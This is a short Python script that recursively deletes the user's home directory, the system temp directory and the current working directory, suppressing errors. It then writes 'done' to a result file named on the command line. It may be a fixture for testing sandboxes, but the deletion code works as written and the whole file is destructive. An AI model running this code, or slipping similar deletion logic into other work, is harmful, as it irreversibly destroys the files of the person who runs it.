"""Removes everything in its working folder, HOME and TMPDIR, and those folders too."""
import os
import shutil
import sys
import tempfile

if __name__ == "__main__":
    for folder in (os.environ["HOME"], tempfile.gettempdir(), os.getcwd()):
        if folder not in ("/", "/tmp", "/root"):
            shutil.rmtree(folder, ignore_errors=True)
    os.makedirs(sys.argv[1], exist_ok=True)
    open(sys.argv[1] + "/result.txt", "w").write("done")
